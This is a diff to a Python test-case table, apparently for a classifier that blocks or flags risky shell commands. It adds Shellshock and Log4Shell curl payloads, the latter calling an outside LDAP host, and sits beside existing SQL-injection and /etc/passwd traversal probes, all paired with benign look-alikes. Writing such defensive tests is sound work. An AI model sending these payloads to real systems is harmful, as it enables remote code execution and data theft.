@@ -392,6 +392,12 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
          "https://npm.example.com", "git config --global credential.helper osxkeychain",
          "docker login --username ci --password-stdin registry.example.com"],
     ),
+    "block.shell.exploit-payload": (
+        ["curl -A '() { :; }; /bin/id' http://192.0.2.10/cgi-bin/status",
+         "curl -H 'X-Request-Id: ${jndi:ldap://198.51.100.9/a}' https://portal.example.net/"],
+        ["curl -A 'Mozilla/5.0' http://192.0.2.10/cgi-bin/status",
+         "curl -H 'X-Request-Id: 8c1f' https://portal.example.net/"],
+    ),
     "confirm.shell.attack-probe": (
         ["curl 'https://shop.example.net/p?sku=3%27%20UNION%20SELECT%20email,pass%20FROM%20users--'",
          "wget -qO- 'https://docs.example.net/get?doc=....//....//....//etc/passwd'",
